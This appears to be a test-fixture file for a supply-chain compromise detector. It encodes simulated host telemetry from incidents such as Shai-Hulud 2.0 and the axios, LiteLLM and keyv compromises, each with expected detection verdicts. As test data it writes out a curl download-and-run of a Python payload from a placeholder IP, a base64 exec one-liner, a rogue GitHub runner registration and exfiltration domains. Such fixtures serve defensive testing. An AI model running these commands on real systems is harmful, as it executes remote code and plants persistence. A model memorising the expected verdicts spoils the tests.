# Read by tools/pack_stories.py; its words are in tools/pack_stories/tell.py. Machines of developers and runners; lists: inventories.py.
NODE, BUN, HOME = "C:\\Program Files\\nodejs\\node.exe", "C:\\Users\\user1\\.bun\\bin\\bun.exe", "C:\\Users\\user1\\"
UNIX_NODE, UNIX_HOME, CURL, PYTHON = "/usr/local/bin/node", "/Users/user1/", "/usr/bin/curl", "/usr/bin/python3.12"
RAN = {"resolved": YES, "ran": YES, "spread": CANNOT}

case("Shai-Hulud 2.0 on Windows: run, and registered as a runner", "2025-11-23", "2025-11-29",
     host("DEV-01", start("2025-11-28 08:30", BUN, command="bun.exe bun_environment.js", parent=NODE),
          start("2025-11-28 08:31", HOME + ".dev-env\\bin\\Runner.Listener.exe", command="Runner.Listener.exe configure --url https://github.com/example/example --unattended --token x --name SHA1HULUD", parent=BUN),
          want=RAN | {"sent": CANNOT, "stays": YES}),
     host("DEV-02", start("2025-11-28 08:30", NODE, command="node setup_bun.js", parent="C:\\Windows\\System32\\cmd.exe"), want=RAN | {"stays": CANNOT}),
     host("DEV-03", start("2025-11-28 08:30", BUN, command="bun.exe run build.js", parent=NODE), write("2025-11-28 08:31", HOME + "shop\\setup_bun.js", NODE),
          start("2025-11-28 08:32", "C:\\actions-runner\\bin\\Runner.Listener.exe", command="Runner.Listener.exe configure --url https://github.com/example/example --name build-07", parent=NODE), want=None),
     host("DEV-04", want=None))

case("axios, LiteLLM and keyv on Macs and Linux machines", "2026-03-23", "2026-04-03",
     host("MAC-01", write("2026-03-31 01:00", "/Library/Caches/com.apple.act.mond", CURL), ask("2026-03-31 01:00:10", "sfrclak.com", CURL, "142.11.206.73"), mac=True, want=RAN | {"sent": YES, "stays": CANNOT}),
     host("LIN-01", start("2026-03-31 01:00", "/bin/sh", command="sh -c curl -o /tmp/ld.py http://192.0.2.80/6202033 && nohup python3 /tmp/ld.py http://192.0.2.80/6202033", parent=UNIX_NODE), mac=True, want=RAN | {"sent": CANNOT}),
     host("LIN-02", start("2026-03-24 11:00", PYTHON, command="python3 -c exec(base64.b64decode('aW1wb3J0IHN1YnByb2Nlc3M'))", parent=PYTHON), write("2026-03-24 11:01", "/home/user1/.config/sysmon/sysmon.py", PYTHON),
          ask("2026-03-24 11:02", "models.litellm.cloud", CURL), mac=True, want=RAN | {"sent": YES, "stays": YES}),
     host("LIN-03", write("2026-03-31 01:00", "/tmp/ld.py", "/usr/bin/ld"), write("2026-03-31 01:01", "/etc/systemd/system/sysmon.service", "/usr/bin/dpkg"), ask("2026-03-31 01:02", "litellm.ai", CURL), mac=True, want=None),
     host("WIN-01", start("2026-03-31 01:00", "C:\\Program Files\\WindowsApps\\Microsoft.WindowsTerminal_1.0\\wt.exe"), ask("2026-03-31 01:02", "registry.npmjs.org", NODE), want=None))

case("keyv: what fires when the token dies, and what only looks like it", "2026-08-03", "2026-08-07",
     host("MAC-11", write("2026-08-04 10:00", UNIX_HOME + "shop/node_modules/keyv/Math_Symbol.js", UNIX_NODE), write("2026-08-04 10:01", UNIX_HOME + ".local/bin/gh-token-monitor.sh", UNIX_NODE), mac=True,
          want=RAN | {"sent": CANNOT, "stays": YES}),
     host("MAC-12", write("2026-08-04 10:00", UNIX_HOME + "shop/Math_Symbol.js", UNIX_NODE), start("2026-08-04 10:01", UNIX_NODE, command="node setup.mjs", parent="/bin/zsh"),
          write("2026-08-04 10:02", UNIX_HOME + ".local/share/kitty/kitty.log", "/usr/local/bin/kitty"), mac=True, want=None))

case("public services, and addresses before their time", "2026-05-10", "2026-05-25",
     host("DEV-21", ask("2026-05-12 10:00", "filev2.getsession.org", NODE), ask("2026-05-12 10:01", "webhook.site", NODE), ask("2026-05-12 10:02", "api.anthropic.com", NODE), ask("2026-05-12 10:03", "temp.sh", NODE),
          connect("2026-05-20 10:00", "23.254.164.92", NODE), want=None),
     host("DEV-22", ask("2026-05-19 02:00", "t.m-kosche.com", BUN), want={"sent": YES}, neighbour=True))

case("as of the day before, nothing of the second wave was known", "2025-11-23", "2025-11-29",
     host("DEV-01", start("2025-11-28 08:30", BUN, command="bun.exe bun_environment.js", parent=NODE), want=None), as_of="2025-11-23", exit=0)
